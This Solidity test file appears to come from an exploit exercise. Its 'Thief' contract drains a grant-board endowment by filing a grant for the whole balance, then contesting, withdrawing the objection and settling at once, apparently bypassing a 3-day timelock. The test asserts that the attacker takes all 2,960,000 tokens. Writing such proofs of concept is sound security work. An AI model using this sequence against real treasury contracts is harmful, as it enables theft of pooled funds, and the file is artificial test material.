// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Token} from "../timelock-bypass/src/Imports.sol";
import {Endowment} from "../timelock-bypass/src/Endowment.sol";
import {GrantBoard} from "../timelock-bypass/src/GrantBoard.sol";

interface Vm {
    function prank(address) external;
    function warp(uint256) external;
}

contract Thief {
    function attack(Token river, GrantBoard board, uint256 amount) external {
        river.approve(address(board), type(uint256).max);
        board.join();
        uint256 id = board.file(address(this), amount);
        board.contest(id);
        board.withdrawObjection(id);
        board.settle(id);
        board.leave();
        river.transfer(msg.sender, river.balanceOf(address(this)));
    }
}

contract TimelockBypassTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant CAROL = address(0xCA401);
    address constant ATTACKER = address(0xBAD);

    Token river;
    Endowment endowment;
    GrantBoard board;

    function setUp() public {
        vm.warp(1_700_000_000);
        river = new Token("River", "RVR");
        endowment = new Endowment(river);
        board = new GrantBoard(endowment, address(this), 1_000 ether, 3 days);
        endowment.bind(address(board));
        river.mint(ALICE, 2_900_000 ether);
        river.mint(BOB, 200_000 ether);
        river.mint(CAROL, 20_000 ether);
        river.mint(ATTACKER, 5_000 ether);
        address[2] memory members = [ALICE, BOB];
        for (uint256 i; i < 2; ++i) {
            vm.prank(members[i]);
            river.approve(address(endowment), 1e60);
            vm.prank(members[i]);
            river.approve(address(board), 1e60);
        }
        vm.prank(ALICE);
        endowment.donate(2_850_000 ether);
        vm.prank(BOB);
        endowment.donate(150_000 ether);
        vm.prank(ALICE);
        board.join();
        vm.prank(BOB);
        board.join();
        vm.prank(ALICE);
        board.file(ALICE, 40_000 ether);
        vm.prank(BOB);
        board.file(BOB, 25_000 ether);
        board.approve(1);
        board.approve(2);
        vm.warp(1_700_000_000 + 4 days);
        board.settle(1);
        vm.prank(ALICE);
        board.file(CAROL, 12_000 ether);
    }

    function test_attack_pays() public {
        uint256 before = river.balanceOf(ATTACKER);
        uint256 loot = river.balanceOf(address(endowment));
        Thief thief = new Thief();
        vm.prank(ATTACKER);
        river.transfer(address(thief), 1_000 ether);
        vm.prank(ATTACKER);
        thief.attack(river, board, loot);
        assert(river.balanceOf(ATTACKER) - before == loot && loot == 2_960_000 ether);
    }
}
